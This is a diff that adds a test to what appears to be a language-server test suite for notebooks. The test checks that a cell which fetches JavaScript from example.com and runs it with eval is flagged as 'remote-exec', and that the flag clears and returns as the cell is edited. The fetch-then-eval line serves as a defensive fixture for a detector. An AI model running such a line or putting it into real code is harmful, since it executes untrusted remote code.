@@ -130,6 +130,19 @@ describe('language server on notebooks', () => {
     assert.equal(finding!.relatedInformation![0]!.location.uri, notebook.uris[1]);
   });
 
+  it('checks a cell that is handed to the page as the script that it is, also when it becomes one', async () => {
+    const script = '%%javascript\nfetch("https://example.com/a.js").then((it) => it.text()).then(eval)';
+    const notebook = await opened({ text: FETCH }, { text: script }, { text: 'exec(text)' });
+    const [finding] = await notebook.shown(1, some);
+    assert.equal(finding!.code, 'remote-exec');
+    assert.equal(finding!.range.start.line, 1);
+    await notebook.shown(2, some);
+    await notebook.type(1, 'x = 1');
+    await notebook.shown(1, none);
+    await notebook.type(1, script);
+    await notebook.shown(1, some);
+  });
+
   it('keeps all cells right while one is typed, and is silent about those that stay the same', async () => {
     const notebook = await opened({ text: FETCH }, { text: 'exec(text)' }, { text: CACHED }, { text: 'x = 1' });
     await notebook.shown(1, some);
